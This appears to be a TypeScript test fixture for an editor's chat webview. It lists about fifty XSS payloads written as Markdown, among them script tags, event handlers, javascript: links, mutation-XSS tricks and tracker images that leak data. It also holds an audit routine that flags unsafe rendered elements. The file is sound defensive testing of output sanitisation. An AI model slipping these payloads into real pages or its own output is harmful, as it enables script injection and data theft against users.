/**
 * XSS payloads as a model could return them. Each one, if it ever ran, would set `window.__xss` (or post a
 * message through the captured API, or navigate). Reusable by any test that renders model output in the
 * chat webview, in the harness or in the real editor.
 */

export interface XssPayload {
  name: string;
  markdown: string;
}

const RUN = "window.__xss='ran'";

export const xssCorpus: XssPayload[] = [
  { name: 'script tag', markdown: `<script>${RUN}</script>` },
  { name: 'script split over lines', markdown: `<scr\nipt>${RUN}</script>` },
  { name: 'img onerror', markdown: `<img src=x onerror="${RUN}">` },
  { name: 'img onerror unquoted', markdown: '<IMG SRC=x ONERROR=window.__xss=1>' },
  { name: 'svg onload', markdown: `<svg onload="${RUN}"></svg>` },
  { name: 'svg script', markdown: `<svg><script>${RUN}</script></svg>` },
  { name: 'svg animate href', markdown: `<svg><a><animate attributeName=href values=javascript:${RUN} /><text x=20 y=20>click</text></a></svg>` },
  { name: 'javascript link', markdown: `[click me](javascript:${RUN})` },
  { name: 'mixed-case javascript link', markdown: `[click](JaVaScRiPt:${RUN})` },
  { name: 'entity-encoded javascript link', markdown: `[click](&#106;avascript:${RUN})` },
  { name: 'tab inside javascript scheme', markdown: '[click](java\tscript:window.__xss=1)' },
  { name: 'vbscript link', markdown: '[click](vbscript:msgbox(1))' },
  { name: 'data html link', markdown: '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)' },
  { name: 'javascript autolink', markdown: `<javascript:${RUN}>` },
  { name: 'bare javascript text for linkify', markdown: 'see javascript:alert(1) and www.example.com' },
  { name: 'reference-style javascript link', markdown: `[ref link][evil]\n\n[evil]: javascript:${RUN}` },
  { name: 'link title breakout', markdown: '[a](https://example.com "x\\" onmouseover=\\"window.__xss=1")' },
  { name: 'autolink quote breakout', markdown: '<https://example.com/"onmouseover="window.__xss=1>' },
  { name: 'markdown image javascript', markdown: `![x](javascript:${RUN})` },
  { name: 'markdown image attribute breakout', markdown: '![x](x" onerror="window.__xss=1)' },
  { name: 'markdown image remote tracker', markdown: '![pixel](https://tracker.invalid/p.png?leak=secret)' },
  { name: 'markdown image data svg', markdown: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5fX3hzcz0xIj48L3N2Zz4=)' },
  { name: 'iframe', markdown: `<iframe src="javascript:parent.__xss='ran'"></iframe>` },
  { name: 'iframe srcdoc', markdown: `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>` },
  { name: 'object', markdown: `<object data="javascript:${RUN}"></object>` },
  { name: 'embed', markdown: '<embed src="data:text/html,<script>parent.__xss=1</script>">' },
  { name: 'form action', markdown: `<form action="javascript:${RUN}"><button>Go</button></form>` },
  { name: 'button formaction', markdown: `<button formaction="javascript:${RUN}">x</button>` },
  { name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">' },
  { name: 'base href', markdown: '<base href="javascript:window.__xss=1//">' },
  { name: 'style tag', markdown: '<style>body { display: none !important }</style>' },
  { name: 'style attribute', markdown: '<div style="position:fixed;inset:0;background:red">overlay</div>' },
  { name: 'link stylesheet', markdown: '<link rel="stylesheet" href="https://tracker.invalid/x.css">' },
  { name: 'anchor onclick', markdown: `<a href="#" onclick="${RUN}">x</a>` },
  { name: 'details ontoggle', markdown: `<details open ontoggle="${RUN}"><summary>x</summary></details>` },
  { name: 'broken html', markdown: `<a href="javascript:${RUN}"<b>broken<img src=x onerror=${RUN}` },
  { name: 'nested brackets', markdown: `<<script>script>${RUN}<</script>/script>` },
  { name: 'textarea breakout', markdown: `</textarea><script>${RUN}</script>` },
  { name: 'comment hiding', markdown: `<!--<img src=x onerror="${RUN}">-->` },
  { name: 'mXSS math style', markdown: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">` },
  { name: 'noscript mXSS', markdown: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { name: 'html in code span', markdown: `\`<img src=x onerror="${RUN}">\`` },
  { name: 'html in fenced code', markdown: `\`\`\`html\n<script>${RUN}</script>\n<img src=x onerror="${RUN}">\n\`\`\`` },
  { name: 'fence info breakout', markdown: `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\`` },
  { name: 'table cell html', markdown: `| a | b |\n|:-|-:|\n| <img src=x onerror=${RUN}> | <script>${RUN}</script> |` },
  { name: 'posting through the API', markdown: "<img src=x onerror=\"window.__posted.push({type:'openLink',href:'https://evil.invalid'})\">" },
  { name: 'template literal', markdown: '${window.__xss=1} {{constructor.constructor("window.__xss=1")()}}' },
  { name: 'unicode escapes', markdown: '[x](\\u006aavascript:window.__xss=1) <img src=x onerror=\\u0061lert(1)>' },
];

/** All payloads as one answer, separated so each is its own Markdown block. */
export function xssAnswer(): string {
  return xssCorpus.map((payload) => `### ${payload.name}\n\n${payload.markdown}\n`).join('\n');
}

/**
 * Runs in the page: lists every element or attribute in rendered answers that could execute, load or style
 * anything. The code-block toolbar and the Retry button are the panel's own chrome, not model output.
 */
export function auditRenderedOutput(): string[] {
  const problems: string[] = [];
  const forbidden = 'script, iframe, frame, object, embed, img, svg, math, style, link, meta, base, form, input, textarea, select, video, audio, source, noscript, template';
  for (const root of Array.from(document.querySelectorAll('.markdown, .commentary, .reasoning-text, .reasoning-label, .tool-activity, .refusal, .user-text, .turn-status, .turn-notice'))) {
    for (const element of Array.from(root.querySelectorAll(forbidden))) problems.push(`element <${element.tagName.toLowerCase()}>`);
    for (const element of Array.from(root.querySelectorAll('*'))) {
      const isChrome = element.closest('.code-block-header, button.retry') !== null;
      if (element.tagName === 'BUTTON' && !isChrome) problems.push('model button');
      for (const attribute of Array.from(element.attributes)) {
        const name = attribute.name.toLowerCase();
        if (name.startsWith('on')) problems.push(`handler ${name}`);
        if (['href', 'src', 'srcdoc', 'style', 'action', 'formaction', 'xlink:href', 'background', 'poster'].includes(name)) problems.push(`attribute ${name}="${attribute.value}"`);
        if (name === 'data-href' && !/^(https?:|mailto:)/i.test(attribute.value)) problems.push(`unsafe link ${attribute.value}`);
      }
    }
  }
  return problems;
}

/**
 * Runs in the page: resolves once every image on the page has loaded or failed, and the task and frame after the
 * last of those events have passed, so an `onload`/`onerror` handler a payload smuggled in would already have run.
 * With nothing loading (what a sanitised answer should give) it resolves after one task and one frame.
 */
export async function loadsSettled(): Promise<void> {
  const loading = Array.from(document.images).filter((image) => !image.complete);
  await Promise.all(loading.map((image) => new Promise((resolve) => {
    image.addEventListener('load', resolve, { once: true });
    image.addEventListener('error', resolve, { once: true });
  })));
  await new Promise((resolve) => setTimeout(resolve, 0));
  await new Promise((resolve) => requestAnimationFrame(resolve));
}
